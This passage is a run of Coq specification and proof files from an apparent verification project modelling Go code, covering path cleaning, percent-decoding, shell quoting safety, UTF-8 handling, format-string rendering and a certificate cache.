                    | [] => txt "%!v(MISSING)" ++ render r []
                    end
  end.

(** ** Call sites *)
Inductive fcls := FConst (s : bytes) | FForward | FComputed.
Record fsite := { site : bytes; infunc : bytes; callee : bytes; cls : fcls; nargs : nat; spread : bool }.

Definition site_wf (x : fsite) : bool :=
  match cls x with
  | FConst s => match parse_fmt s with
                | Some ps => spread x || Nat.eqb (nverbs ps) (nargs x)
                | None => false
                end
  | FForward => true
  | FComputed => false
  end.
Definition prog_wf (p : list fsite) : bool := forallb site_wf p.

(** A format string that can reach function [f]'s format parameter: written
    at a constant site calling [f], or forwarded by a wrapper that received it. *)
Inductive reaches (p : list fsite) : bytes -> bytes -> Prop :=
| r_const x s : In x p -> cls x = FConst s -> reaches p (callee x) s
| r_forward x s : In x p -> cls x = FForward -> reaches p (infunc x) s -> reaches p (callee x) s.
