(** Percent-decoding of one path element, as net/url's PathUnescape performs it
    for [Request.PathValue] (a '%' not followed by two hexadecimal digits is
    rejected by the request parser before routing; here it is kept verbatim). *)
From CRS Require Import Lib.Bytes.
Open Scope N_scope.

Definition hexv (c : N) : option N :=
  if (48 <=? c) && (c <=? 57) then Some (c - 48)
  else if (65 <=? c) && (c <=? 70) then Some (c - 55)
  else if (97 <=? c) && (c <=? 102) then Some (c - 87)
  else None.

Fixpoint pct_decode (s : bytes) : bytes :=
  match s with
  | [] => []
  | 37 :: ((a :: b :: r) as t) =>
      match hexv a, hexv b with
      | Some x, Some y => (16 * x + y) :: pct_decode r
      | _, _ => 37 :: pct_decode t
      end
  | c :: t => c :: pct_decode t
  end.
