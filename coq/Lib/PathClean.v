(** [path.Clean] for rooted paths, written as its specification: split on
    '/', drop empty and "." elements, let ".." remove the previous element (or
    nothing at the root), join under a single leading '/'.  Agreement with
    Go's implementation (a lazy buffer) is validated by correspondence. *)
From CRS Require Import Lib.Bytes.
Open Scope N_scope.

Definition dot : bytes := [46].
Definition dotdot : bytes := [46; 46].

(** Process the elements left to right; the stack holds kept elements, most recent first. *)
Fixpoint clean_segs (segs : list bytes) (stack : list bytes) : list bytes :=
  match segs with
  | [] => rev stack
  | s :: r =>
      if beq s [] || beq s dot then clean_segs r stack
      else if beq s dotdot then clean_segs r (tl stack)
      else clean_segs r (s :: stack)
  end.

Definition join_rooted (segs : list bytes) : bytes :=
  match segs with
  | [] => [47]
  | _ => concat (map (fun s => 47 :: s) segs)
  end.

(** [path.Clean("/" + p)] *)
Definition clean_rooted (p : bytes) : bytes := join_rooted (clean_segs (split_on 47 p) []).

(** A path element that is safe to append under a root directory. *)
Definition good_seg (s : bytes) : Prop := s <> [] /\ s <> dot /\ s <> dotdot /\ ~ In 47 s.
