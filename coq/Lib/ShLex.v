(** A POSIX-shell word lexer for the fragment that matters to C16/C18:
    blanks separate words; ['...'] quotes everything literally; a backslash
    outside quotes makes the next character literal.  ANY other character
    with a special meaning to the shell outside quotes (double quote, dollar,
    backtick, ; & | < > ( ) # * ? [ ] { } ~ ! = newline) makes the lexer
    return [None]: the text is then "not just literal words", so a [Some]
    result certifies that no expansion, substitution, operator or second
    command can arise. *)
From CRS Require Import Lib.Bytes.
Open Scope N_scope.

Definition sh_special (c : N) : bool :=
  existsb (N.eqb c)
    [34; 36; 96; 59; 38; 124; 60; 62; 40; 41; 35; 42; 63; 91; 93; 123; 125; 126; 33; 61; 10; 0].

Inductive lstate := LBlank | LWord | LQuote | LEsc.

(** [cur] is the word being built (in order), [acc] the finished words. *)
Fixpoint sh_lex_from (s : lstate) (cur : bytes) (acc : list bytes) (l : bytes)
  : option (list bytes) :=
  match l with
  | [] =>
      match s with
      | LBlank => Some acc
      | LWord => Some (acc ++ [cur])
      | LQuote => None            (* unterminated quote *)
      | LEsc => None              (* trailing backslash *)
      end
  | c :: r =>
      match s with
      | LQuote => if c =? 39 then sh_lex_from LWord cur acc r
                  else sh_lex_from LQuote (cur ++ [c]) acc r
      | LEsc => if c =? 10 then None else sh_lex_from LWord (cur ++ [c]) acc r
      | LBlank =>
          if (c =? 32) || (c =? 9) then sh_lex_from LBlank [] acc r
          else if c =? 39 then sh_lex_from LQuote [] acc r
          else if c =? 92 then sh_lex_from LEsc [] acc r
          else if sh_special c then None
          else sh_lex_from LWord [c] acc r
      | LWord =>
          if (c =? 32) || (c =? 9) then sh_lex_from LBlank [] (acc ++ [cur]) r
          else if c =? 39 then sh_lex_from LQuote cur acc r
          else if c =? 92 then sh_lex_from LEsc cur acc r
          else if sh_special c then None
          else sh_lex_from LWord (cur ++ [c]) acc r
      end
  end.

Definition sh_lex (l : bytes) : option (list bytes) := sh_lex_from LBlank [] [] l.

(** The escaping used by funclist.go: every ['] becomes ['\'']. *)
Definition sq_escape (r : bytes) : bytes :=
  (fix go (l : bytes) : bytes :=
     match l with
     | [] => []
     | x :: t => if x =? 39 then [39; 92; 39; 39] ++ go t else x :: go t
     end) r.

(** Core lemma: inside an open single quote, the escaped text followed by a
    closing quote contributes exactly the original bytes to the current word,
    for every byte string. *)
Lemma sh_lex_quote_escape r : forall cur acc rest,
  sh_lex_from LQuote cur acc (sq_escape r ++ 39 :: rest)
  = sh_lex_from LWord (cur ++ r) acc rest.
Proof.
  induction r as [|x r IH]; intros cur acc rest.
  - cbn. rewrite app_nil_r. reflexivity.
  - unfold sq_escape in *. cbn [app]. destruct (x =? 39) eqn:E.
    + apply N.eqb_eq in E. subst x.
      cbn [app sh_lex_from N.eqb Pos.eqb]. cbn.
      rewrite IH. rewrite <- app_assoc. reflexivity.
    + cbn [app sh_lex_from]. rewrite E. rewrite IH. rewrite <- app_assoc. reflexivity.
Qed.

Lemma sh_lex_quoted_word r :
  sh_lex (txt "        echo '" ++ sq_escape r ++ [39]) = Some [txt "echo"; r].
Proof.
  unfold sh_lex. cbn [txt app N_of_ascii]. cbn -[sq_escape].
  rewrite sh_lex_quote_escape. reflexivity.
Qed.
