(** strconv.FormatUint(x, 36) *)
From CRS Require Import Lib.Bytes.
Open Scope N_scope.

Definition d36 (v : N) : N := if v <? 10 then 48 + v else 87 + v.      (* 0-9 a-z *)
Definition v36 (c : N) : N := if c <? 58 then c - 48 else c - 87.

Fixpoint b36_fuel (fuel : nat) (n : N) : bytes :=
  match fuel with
  | O => []
  | S f => if n <? 36 then [d36 n] else b36_fuel f (n / 36) ++ [d36 (n mod 36)]
  end.
(** 13 digits suffice for 64 bits; 14 for slack *)
Definition base36 (n : N) : bytes := b36_fuel 14 n.

Definition unbase36 (l : bytes) : N := fold_left (fun acc c => acc * 36 + v36 c) l 0.
