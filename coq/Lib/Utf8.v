(** The parts of Go's UTF-8 / Unicode handling the repository relies on:
    [utf8.RuneCount] (tabwriter cell widths) and [strings.TrimSpace].
    Agreement with the Go standard library is validated by the C16/C18
    correspondence streams (sampled), not proved. *)
From CRS Require Import Lib.Bytes.
Open Scope N_scope.

Definition is_cont (b : N) : bool := (128 <=? b) && (b <=? 191).
Definition in_rng (lo hi b : N) : bool := (lo <=? b) && (b <=? hi).

(** Length in bytes of the first rune of a non-empty string, as decoded by Go
    (an invalid or truncated sequence is one byte: U+FFFD). *)
Definition rune_len (l : bytes) : nat :=
  match l with
  | [] => 0%nat
  | b0 :: r =>
      if b0 <? 128 then 1%nat
      else if in_rng 194 223 b0 then
        match r with b1 :: _ => if is_cont b1 then 2%nat else 1%nat | _ => 1%nat end
      else if in_rng 224 239 b0 then
        match r with
        | b1 :: b2 :: _ =>
            let lo := if b0 =? 224 then 160 else 128 in
            let hi := if b0 =? 237 then 159 else 191 in
            if in_rng lo hi b1 && is_cont b2 then 3%nat else 1%nat
        | _ => 1%nat
        end
      else if in_rng 240 244 b0 then
        match r with
        | b1 :: b2 :: b3 :: _ =>
            let lo := if b0 =? 240 then 144 else 128 in
            let hi := if b0 =? 244 then 143 else 191 in
            if in_rng lo hi b1 && is_cont b2 && is_cont b3 then 4%nat else 1%nat
        | _ => 1%nat
        end
      else 1%nat
  end.

(** [utf8.RuneCount] *)
Fixpoint rune_count_fuel (fuel : nat) (l : bytes) : nat :=
  match fuel with
  | O => 0%nat
  | S f => match l with
           | [] => 0%nat
           | _ => S (rune_count_fuel f (skipn (rune_len l) l))
           end
  end.
Definition rune_count (l : bytes) : nat := rune_count_fuel (length l) l.

(** ** strings.TrimSpace *)
Definition ascii_space (b : N) : bool :=
  (b =? 9) || (b =? 10) || (b =? 11) || (b =? 12) || (b =? 13) || (b =? 32).

(** Valid UTF-8 encodings of the non-ASCII White_Space code points:
    U+0085 U+00A0 U+1680 U+2000..U+200A U+2028 U+2029 U+202F U+205F U+3000. *)
Definition space_seqs : list bytes :=
  [ [194;133]; [194;160]; [225;154;128];
    [226;128;128]; [226;128;129]; [226;128;130]; [226;128;131]; [226;128;132];
    [226;128;133]; [226;128;134]; [226;128;135]; [226;128;136]; [226;128;137];
    [226;128;138]; [226;128;168]; [226;128;169]; [226;128;175]; [226;129;159];
    [227;128;128] ].

(** Number of bytes of leading whitespace rune, 0 if none. *)
Definition lead_space (l : bytes) : nat :=
  match l with
  | [] => 0%nat
  | b :: _ =>
      if ascii_space b then 1%nat
      else match find (fun p => bprefix p l) space_seqs with
           | Some p => length p
           | None => 0%nat
           end
  end.

Fixpoint trim_left_fuel (fuel : nat) (l : bytes) : bytes :=
  match fuel with
  | O => l
  | S f => match lead_space l with
           | O => l
           | n => trim_left_fuel f (skipn n l)
           end
  end.
Definition trim_left (l : bytes) : bytes := trim_left_fuel (length l) l.

(** Trailing side: the same test on the reversed string with reversed patterns
    (a pattern has exactly one rune-start byte, its first, which is what
    [utf8.DecodeLastRune] looks for). *)
Definition lead_space_rev (l : bytes) : nat :=
  match l with
  | [] => 0%nat
  | b :: _ =>
      if ascii_space b then 1%nat
      else match find (fun p => bprefix (rev p) l) space_seqs with
           | Some p => length p
           | None => 0%nat
           end
  end.
Fixpoint trim_left_rev_fuel (fuel : nat) (l : bytes) : bytes :=
  match fuel with
  | O => l
  | S f => match lead_space_rev l with
           | O => l
           | n => trim_left_rev_fuel f (skipn n l)
           end
  end.
(** [frev] is [rev] computed in linear time ([rev_append_rev] relates them). *)
Definition frev (l : bytes) : bytes := rev_append l [].
Definition trim_right (l : bytes) : bytes := frev (trim_left_rev_fuel (length l) (frev l)).

Definition trim_space (l : bytes) : bytes := trim_right (trim_left l).
