(** Lemmas about [chunks]. *)
From CRS Require Import Lib.Bytes.
Open Scope nat_scope.

Section Chunks.
  Context {A : Type}.
  Implicit Types (l : list A) (cs : list (list A)).

  Lemma chunks_fuel_agree n : 0 < n -> forall f1 f2 l,
    length l <= f1 -> length l <= f2 -> chunks_fuel f1 n l = chunks_fuel f2 n l.
  Proof.
    intros Hn f1. induction f1 as [|f1 IH]; intros f2 l H1 H2.
    - destruct l; [destruct f2; reflexivity | simpl in H1; lia].
    - destruct l as [|x l']; [destruct f2; reflexivity|].
      destruct f2 as [|f2]; [simpl in H2; lia|].
      cbn [chunks_fuel]. f_equal.
      assert (Hs : length (skipn n (x :: l')) <= length l').
      { rewrite skipn_length. cbn [length]. lia. }
      simpl in H1, H2. apply IH; lia.
  Qed.

  Lemma chunks_fuel_enough n : 0 < n -> forall fuel l,
    length l <= fuel -> chunks_fuel fuel n l = chunks_fuel (length l) n l.
  Proof. intros Hn fuel l H. apply chunks_fuel_agree; [exact Hn | exact H | lia]. Qed.

  Lemma chunks_nil n : chunks n (@nil A) = [].
  Proof. reflexivity. Qed.

  Lemma chunks_cons_step n l : 0 < n -> l <> [] ->
    chunks n l = firstn n l :: chunks n (skipn n l).
  Proof.
    intros Hn Hl. unfold chunks. destruct l as [|x l']; [congruence|].
    cbn [chunks_fuel length]. f_equal.
    apply chunks_fuel_enough; [exact Hn|].
    rewrite skipn_length. cbn [length]. lia.
  Qed.

  (** Full chunk in front. *)
  Lemma chunks_app_full n a l : 0 < n -> length a = n ->
    chunks n (a ++ l) = a :: chunks n l.
  Proof.
    intros Hn Ha.
    rewrite chunks_cons_step; [|exact Hn|].
    - rewrite firstn_app, skipn_app, Ha, Nat.sub_diag. simpl.
      rewrite <- Ha, firstn_all, skipn_all, app_nil_r. reflexivity.
    - destruct a; [simpl in Ha; lia | discriminate].
  Qed.

  (** A short (or exactly full) last chunk. *)
  Lemma chunks_last n (a : list A) : 0 < n -> 0 < length a <= n -> chunks n a = [a].
  Proof.
    intros Hn Ha.
    rewrite chunks_cons_step; [|exact Hn|].
    - rewrite firstn_all2 by lia. rewrite skipn_all2 by lia. reflexivity.
    - destruct a; [simpl in Ha; lia | discriminate].
  Qed.

  (** Shape of a chunk list. *)
  Inductive chunked (n : nat) : list (list A) -> Prop :=
  | chunked_nil : chunked n []
  | chunked_last a : 0 < length a <= n -> chunked n [a]
  | chunked_cons a cs : length a = n -> cs <> [] -> chunked n cs -> chunked n (a :: cs).

  Lemma chunks_of_concat n cs : 0 < n -> chunked n cs -> chunks n (concat cs) = cs.
  Proof.
    intros Hn H. induction H as [|a Ha|a cs Ha Hne H IH].
    - reflexivity.
    - simpl. rewrite app_nil_r. apply chunks_last; assumption.
    - simpl. rewrite chunks_app_full by assumption. rewrite IH. reflexivity.
  Qed.

  Lemma chunks_spec n : 0 < n -> forall l, chunked n (chunks n l) /\ concat (chunks n l) = l.
  Proof.
    intros Hn l.
    remember (length l) as k eqn:Hk. revert l Hk.
    induction k as [k IH] using lt_wf_ind. intros l Hk.
    destruct l as [|x l'].
    - split; [constructor | reflexivity].
    - rewrite chunks_cons_step by (assumption || discriminate).
      set (l := x :: l') in *.
      assert (Hlen : length (skipn n l) < k).
      { rewrite skipn_length. subst k. subst l. cbn [length]. lia. }
      destruct (IH _ Hlen (skipn n l) eq_refl) as [Hc Hcat].
      split.
      + destruct (chunks n (skipn n l)) as [|c cs] eqn:Hch.
        * apply chunked_last. rewrite firstn_length. subst l. cbn [length]. lia.
        * apply chunked_cons; [|discriminate|exact Hc].
          rewrite firstn_length.
          assert (Hsk : skipn n l <> []).
          { intro Hs. rewrite Hs in Hch. discriminate. }
          assert (Hnl : n < length l).
          { destruct (Nat.lt_ge_cases n (length l)) as [Hlt|Hge]; [assumption|].
            exfalso. apply Hsk. apply skipn_all2. assumption. }
          apply Nat.min_l. lia.
      + simpl. rewrite Hcat. apply firstn_skipn.
  Qed.

  Lemma chunked_length_le n cs : 0 < n -> chunked n cs -> Forall (fun c => 0 < length c <= n) cs.
  Proof.
    intros Hn. induction 1 as [|a Ha|a cs Ha Hne H IH].
    - constructor.
    - constructor; [assumption | constructor].
    - constructor; [lia | assumption].
  Qed.

  (** All chunks but the last have full length. *)
  Lemma chunked_inv n c cs : chunked n (c :: cs) ->
    (cs = [] /\ 0 < length c <= n) \/ (cs <> [] /\ length c = n /\ chunked n cs).
  Proof.
    intros H. inversion H; subst.
    - left. split; [reflexivity | assumption].
    - right. repeat split; assumption.
  Qed.

  Lemma length_concat_chunked n cs : chunked n cs ->
    length (concat cs) <= n * length cs /\ (cs <> [] -> n * (length cs - 1) < length (concat cs)).
  Proof.
    induction 1 as [|a Ha|a cs Ha Hne H [IH1 IH2]].
    - simpl. split; [lia | congruence].
    - simpl. rewrite app_nil_r. split; [lia | intros _; lia].
    - cbn [concat length]. rewrite app_length. specialize (IH2 Hne).
      destruct cs as [|c cs']; [congruence|]. cbn [length] in *.
      split; [nia | intros _; nia].
  Qed.
End Chunks.
