(** Lemmas about [split_on], [sort_bytes], [compact]. *)
From CRS Require Import Lib.Bytes Lib.Sort.
Open Scope N_scope.

Lemma split_on_app_sep sep l r : ~ In sep l ->
  split_on sep (l ++ sep :: r) = l :: split_on sep r.
Proof.
  induction l as [|x l IH]; intros Hnin.
  - cbn [app split_on]. rewrite N.eqb_refl. reflexivity.
  - cbn [app split_on].
    assert (Hx : (x =? sep) = false) by (apply N.eqb_neq; intro; subst; apply Hnin; left; reflexivity).
    rewrite Hx, IH; [reflexivity|]. intro Hin. apply Hnin. right. exact Hin.
Qed.

Lemma split_on_no_sep sep l : ~ In sep l -> split_on sep l = [l].
Proof.
  induction l as [|x l IH]; intros Hnin; [reflexivity|].
  cbn [split_on].
  assert (Hx : (x =? sep) = false) by (apply N.eqb_neq; intro; subst; apply Hnin; left; reflexivity).
  rewrite Hx, IH; [reflexivity|]. intro Hin. apply Hnin. right. exact Hin.
Qed.

Lemma split_on_nonempty sep l : split_on sep l <> [].
Proof.
  induction l as [|x l IH]; cbn [split_on]; [discriminate|].
  destruct (x =? sep); [discriminate|]. destruct (split_on sep l); [congruence | discriminate].
Qed.

(** No piece contains the separator. *)
Lemma split_on_pieces sep l : Forall (fun p => ~ In sep p) (split_on sep l).
Proof.
  induction l as [|x l IH]; cbn [split_on].
  - constructor; [intros [] | constructor].
  - destruct (x =? sep) eqn:E.
    + constructor; [intros [] | exact IH].
    + destruct (split_on sep l) as [|h t]; [constructor; [|constructor]|].
      * intros [H|[]]. subst. rewrite N.eqb_refl in E. discriminate.
      * inversion IH as [|? ? Hh Ht]; subst. constructor; [|exact Ht].
        intros [H|H]; [subst; rewrite N.eqb_refl in E; discriminate | exact (Hh H)].
Qed.

Lemma In_insert_sorted x y l : In x (insert_sorted y l) -> x = y \/ In x l.
Proof.
  induction l as [|z l IH]; cbn [insert_sorted]; intros H.
  - destruct H as [H|[]]; left; congruence.
  - destruct (ble y z).
    + destruct H as [H|H]; [left; congruence | right; exact H].
    + destruct H as [H|H]; [right; left; exact H|].
      destruct (IH H) as [Hx|Hx]; [left; exact Hx | right; right; exact Hx].
Qed.

Lemma In_sort_bytes x l : In x (sort_bytes l) -> In x l.
Proof.
  induction l as [|y l IH]; cbn [sort_bytes fold_right]; intros H; [exact H|].
  apply In_insert_sorted in H as [H|H]; [left; congruence | right; apply IH; exact H].
Qed.

Lemma In_compact x l : In x (compact l) -> In x l.
Proof.
  induction l as [|y l IH]; cbn [compact]; intros H; [exact H|].
  destruct l as [|z l'].
  - exact H.
  - destruct (beq y z).
    + right. apply IH. exact H.
    + destruct H as [H|H]; [left; exact H | right; apply IH; exact H].
Qed.
