(** C10: constant formats render their operands verbatim; in a well-formed
    program every format that reaches a formatting function is such a constant. *)
From CRS Require Import Lib.Bytes Lib.Fmt.
Open Scope N_scope.

(** Operands are inserted whole, in order, between the format's literal
    characters: the output is the literal text with each verb replaced by its
    operand — whatever bytes the operands contain (no operand is ever parsed). *)
Fixpoint lits_between (ps : list piece) : list bytes :=      (* literal runs: one more than verbs *)
  match ps with
  | [] => [[]]
  | PLit c :: r => match lits_between r with h :: t => (c :: h) :: t | [] => [[c]] end
  | PVerb _ :: r => [] :: lits_between r
  end.
Fixpoint weave (ls : list bytes) (args : list bytes) : bytes :=
  match ls, args with
  | l :: ls', a :: args' => l ++ a ++ weave ls' args'
  | l :: _, [] => l
  | [], _ => []
  end.

Lemma lits_nonempty ps : lits_between ps <> [].
Proof. induction ps as [|[c|v] r IH]; cbn; try discriminate. destruct (lits_between r); discriminate. Qed.

Lemma length_lits ps : length (lits_between ps) = S (nverbs ps).
Proof.
  induction ps as [|[c|v] r IH]; cbn; [reflexivity| |].
  - destruct (lits_between r) eqn:E; [exfalso; exact (lits_nonempty r E)|]. cbn in *. exact IH.
  - unfold nverbs in *. cbn. rewrite IH. reflexivity.
Qed.

Theorem render_weave ps : forall args, length args = nverbs ps -> render ps args = weave (lits_between ps) args.
Proof.
  induction ps as [|[c|v] r IH]; intros args Hl.
  - destruct args; [reflexivity | discriminate].
  - cbn [render lits_between]. unfold nverbs in *. cbn in Hl. rewrite (IH args Hl).
    destruct (lits_between r) as [|h t] eqn:E; [exfalso; exact (lits_nonempty r E)|].
    destruct args; reflexivity.
  - unfold nverbs in *. cbn in Hl. destruct args as [|a args]; [discriminate|].
    cbn [render lits_between weave]. rewrite (IH args) by (cbn in Hl; lia). reflexivity.
Qed.

(** Each operand occurs verbatim (as a contiguous block) in the output. *)
Theorem render_contains ps : forall args, length args = nverbs ps ->
  forall a, In a args -> exists pre post, render ps args = pre ++ a ++ post.
Proof.
  induction ps as [|[c|v] r IH]; intros args Hl a Ha.
  - destruct args; [destruct Ha | discriminate].
  - unfold nverbs in *. cbn in Hl. destruct (IH args Hl a Ha) as (pre & post & E).
    exists (c :: pre), post. cbn [render]. rewrite E. reflexivity.
  - unfold nverbs in *. cbn in Hl. destruct args as [|b args]; [discriminate|].
    cbn [render]. destruct Ha as [->|Ha].
    + exists [], (render r args). reflexivity.
    + destruct (IH args ltac:(cbn in Hl; lia) a Ha) as (pre & post & E).
      exists (b ++ pre), post. rewrite E, <- app_assoc. reflexivity.
Qed.

(** In a well-formed program, whatever format reaches any function is a
    constant of the source that parses with plain verbs only. *)
Theorem wf_reaches p : prog_wf p = true ->
  forall f s, reaches p f s -> exists ps, parse_fmt s = Some ps.
Proof.
  intros Hwf f s H. induction H as [x s Hin Hc | x s Hin Hc Hr IH].
  - unfold prog_wf in Hwf. rewrite forallb_forall in Hwf. specialize (Hwf x Hin).
    unfold site_wf in Hwf. rewrite Hc in Hwf. destruct (parse_fmt s) as [ps|]; [exists ps; reflexivity | discriminate].
  - exact IH.
Qed.

(** ...and no site builds its format at run time. *)
Theorem wf_no_computed p : prog_wf p = true -> forall x, In x p -> cls x <> FComputed.
Proof.
  intros Hwf x Hin Hc. unfold prog_wf in Hwf. rewrite forallb_forall in Hwf. specialize (Hwf x Hin).
  unfold site_wf in Hwf. rewrite Hc in Hwf. discriminate.
Qed.

(** The repaired defect, on the model: using an already formatted message as a
    format loses text — there are operands for which the two differ. *)
Theorem reformat_refuted : exists msg,
  match parse_fmt msg with Some ps => render ps [] <> msg | None => True end.
Proof. exists (txt "/a%20b"). vm_compute. exact I. Qed.
