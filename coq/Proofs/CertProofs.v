(** C08: the certificate cache. *)
From CRS Require Import Lib.Bytes Model.CertCache.
Open Scope N_scope.

Section L.
  Variable load : fstate -> loadres.
  Hypothesis Hload : load_ok load.

  (** One start never serves a pair other than the one the existing file stems
      from, and never writes when a file exists (complete, torn or damaged);
      a missing file is regenerated. *)
  Lemma start_safe f fresh :
    match origin f with
    | Some kp => (fst (get_certificate (load f) fresh) = Served kp \/ fst (get_certificate (load f) fresh) = Failed) /\
                 snd (get_certificate (load f) fresh) = None
    | None => get_certificate (load f) fresh = (Served fresh, Some fresh)
    end.
  Proof.
    destruct Hload as (H0 & H1 & H2 & H3). destruct f as [|kp|kp n|kp]; cbn [origin].
    - rewrite H0. reflexivity.
    - rewrite H1. cbn. split; [left; reflexivity | reflexivity].
    - destruct (H2 kp n) as [E|E]; rewrite E; cbn; split; auto.
    - destruct (H3 kp) as [E|E]; rewrite E; cbn; split; auto.
  Qed.

  (** Over any history: as long as the cache is not deleted, every successful
      start serves the pair of the run that created the file, and the origin
      of the file never changes (it is never rewritten with another pair). *)
  Lemma history_stable ops : forall f kp, origin f = Some kp ->
    (forall o, In o ops -> o <> DeleteCache) ->
    origin (fst (chistory load f ops)) = Some kp /\
    Forall (fun r => r = Served kp \/ r = Failed) (snd (chistory load f ops)).
  Proof.
    induction ops as [|o ops IH]; intros f kp Hf Hnd; [split; [exact Hf | constructor]|].
    assert (Hnd' : forall o', In o' ops -> o' <> DeleteCache) by (intros o' Ho; apply Hnd; right; exact Ho).
    destruct o as [fresh| |n|]; cbn [chistory].
    - pose proof (start_safe f fresh) as Hs. rewrite Hf in Hs. destruct Hs as [Hr Hw].
      destruct (get_certificate (load f) fresh) as [res w]. cbn [fst snd] in *. subst w. cbn [apply_write].
      specialize (IH f kp Hf Hnd'). destruct (chistory load f ops) as [f' out]. cbn [fst snd] in *.
      destruct IH as [I1 I2]. split; [exact I1 | constructor; assumption].
    - exfalso. apply (Hnd DeleteCache); [left; reflexivity | reflexivity].
    - apply IH; [|exact Hnd']. destruct f; cbn in *; congruence.
    - apply IH; [|exact Hnd']. destruct f; cbn in *; congruence.
  Qed.

  (** After a deletion (or with no file yet) the next start creates the file
      with its own fresh pair and serves it. *)
  Lemma start_on_absent fresh ops :
    chistory load FAbsent (Start fresh :: ops) =
    let '(f', out) := chistory load (FComplete fresh) ops in (f', Served fresh :: out).
  Proof.
    destruct Hload as (H0 & _). cbn [chistory]. rewrite H0. cbn. reflexivity.
  Qed.

  (** A torn or damaged file is never regenerated over and never yields another key. *)
  Lemma torn_never_regenerates kp n fresh :
    snd (get_certificate (load (FTorn kp n)) fresh) = None /\
    fst (get_certificate (load (FTorn kp n)) fresh) <> Served fresh \/ kp = fresh.
  Proof.
    destruct (N.eq_dec kp fresh) as [E|E]; [right; exact E|left].
    pose proof (start_safe (FTorn kp n) fresh) as [Hr Hw]. split; [exact Hw|].
    destruct Hr as [Hr|Hr]; rewrite Hr; congruence.
  Qed.
End L.

Lemma owner_only_modes : owner_only 384 = true /\ owner_only 448 = true /\ owner_only 420 = false /\ owner_only 493 = false.
Proof. vm_compute. repeat split; reflexivity. Qed.
