(** C17: the directory payload is exactly the eligible files, converted, in name order. *)
From CRS Require Import Lib.Bytes Lib.Sort Lib.Split Model.Perl Model.FuncList Model.Conv Proofs.ConvProofs Proofs.SortProofs.
From Coq Require Import Sorting.Sorted Sorting.Permutation.
Open Scope N_scope.

Lemma lookup_In_gen (d : listing) n k : NoDup (map fst d) -> In (n, k) d -> lookup d n = Some k.
Proof.
  unfold lookup. induction d as [|[m j] l IH]; intros Hn Hin; [destruct Hin|].
  cbn in Hn. inversion Hn as [|? ? Hm Hl]; subst. cbn [find fst]. destruct Hin as [E|Hin].
  - inversion E; subst. rewrite beq_refl. reflexivity.
  - destruct (beq m n) eqn:Eb.
    + apply beq_eq in Eb. subst m. exfalso. apply Hm. apply in_map_iff. exists (n, k). split; [reflexivity | exact Hin].
    + apply IH; assumption.
Qed.
Lemma lookup_Some_gen (d : listing) n k : lookup d n = Some k -> In (n, k) d.
Proof.
  unfold lookup. destruct (find (fun e => beq (fst e) n) d) as [[m j]|] eqn:E; [|discriminate].
  intros H. inversion H; subst j. apply find_some in E as [Hin Eb]. cbn in Eb. apply beq_eq in Eb. subst m. exact Hin.
Qed.

Section Full.
  Variable matches : bytes -> bytes -> bool.
  Variable bad : bytes -> bool.
  (** path.Match on a pattern without meta characters is string equality. *)
  Hypothesis Hmeta : forall p n, has_meta p = false -> matches p n = beq p n.

  Notation glob := (glob matches).
  Notation file_names := (file_names matches).
  Notation convert_files := (convert_files matches bad).
  Notation convert_one := (convert_one matches).
  Notation eligible := (eligible matches).

  (** ** the sorted table has the same entries *)
  Lemma insert_tab_perm x t : Permutation (insert_tab x t) (x :: t).
  Proof.
    induction t as [|y t IH]; cbn; [reflexivity|]. destruct (ble (fst x) (fst y)); [reflexivity|].
    rewrite IH. apply perm_swap.
  Qed.
  Lemma sort_table_perm t : Permutation (sort_table t) t.
  Proof. induction t as [|x t IH]; cbn; [reflexivity|]. rewrite insert_tab_perm. constructor. exact IH. Qed.
  Lemma existsb_perm {A} (f : A -> bool) l l' : Permutation l l' -> existsb f l = existsb f l'.
  Proof.
    intros H. destruct (existsb f l) eqn:E.
    - symmetry. apply existsb_exists in E as (x & Hx & Fx). apply existsb_exists. exists x. split; [eapply Permutation_in; eassumption | exact Fx].
    - symmetry. apply not_true_is_false. intros E'. apply existsb_exists in E' as (x & Hx & Fx).
      assert (existsb f l = true); [|congruence]. apply existsb_exists. exists x. split; [eapply Permutation_in; [symmetry|]; eassumption | exact Fx].
  Qed.

  (** ** the directory *)
  Variable d : listing.
  Hypothesis Hnodup : NoDup (map fst d).
  Hypothesis Hbase : forall e, In e d -> path_base (fst e) = fst e.

  Lemma lookup_In n k : In (n, k) d -> lookup d n = Some k.
  Proof. apply lookup_In_gen, Hnodup. Qed.
  Lemma lookup_Some n k : lookup d n = Some k -> In (n, k) d.
  Proof. apply lookup_Some_gen. Qed.

  (** ** fs.Glob *)
  Lemma In_glob p n : In n (glob d p) <->
    exists k, In (n, k) d /\ matches p n = true /\ (has_meta p = true \/ k <> KDangling).
  Proof.
    unfold Conv.glob. destruct (has_meta p) eqn:Em.
    - rewrite in_map_iff. split.
      + intros ([m k] & E & Hin). cbn in E. subst m. apply filter_In in Hin as [Hin Hm]. exists k. repeat split; auto.
      + intros (k & Hin & Hm & _). exists (n, k). split; [reflexivity|]. apply filter_In. split; assumption.
    - unfold exists_followed. destruct (existsb _ d) eqn:Ee.
      + apply existsb_exists in Ee as ([m k] & Hin & He). cbn in He. apply andb_true_iff in He as [He1 He2].
        apply beq_eq in He1. subst m. split.
        * intros [<-|[]]. exists k. repeat split; [exact Hin | rewrite Hmeta by exact Em; apply beq_refl |].
          right. intro; subst; discriminate.
        * intros (k' & Hin' & Hm & _). rewrite Hmeta in Hm by exact Em. apply beq_eq in Hm. left. exact Hm.
      + split; [intros []|]. intros (k & Hin & Hm & [Hx|Hk]); [discriminate|].
        rewrite Hmeta in Hm by exact Em. apply beq_eq in Hm. subst n.
        assert (existsb (fun e => beq (fst e) p && match snd e with KDangling => false | _ => true end) d = true); [|congruence].
        apply existsb_exists. exists (p, k). split; [exact Hin|]. cbn. rewrite beq_refl. destruct k; try reflexivity. congruence.
  Qed.

  (** ** the list of file names: strictly sorted; exactly the globbed names *)
  Variable t : table.          (* the SORTED table *)

  Lemma file_names_strict : StronglySorted lt_p (file_names t d).
  Proof. unfold Conv.file_names. apply compact_strict, sort_sorted. Qed.

  Lemma In_file_names n : In n (file_names t d) <-> exists pf, In pf t /\ In n (glob d (fst pf)).
  Proof.
    unfold Conv.file_names. rewrite In_compact_iff, In_sort, in_concat. split.
    - intros (l & Hl & Hn). apply in_map_iff in Hl as (pf & <- & Hpf). exists pf. split; assumption.
    - intros (pf & Hpf & Hn). exists (glob d (fst pf)). split; [apply in_map_iff; exists pf; split; [reflexivity | exact Hpf] | exact Hn].
  Qed.

  (** ** converting a list of names all of which are unproblematic *)
  Definition keep (n : bytes) : bool :=
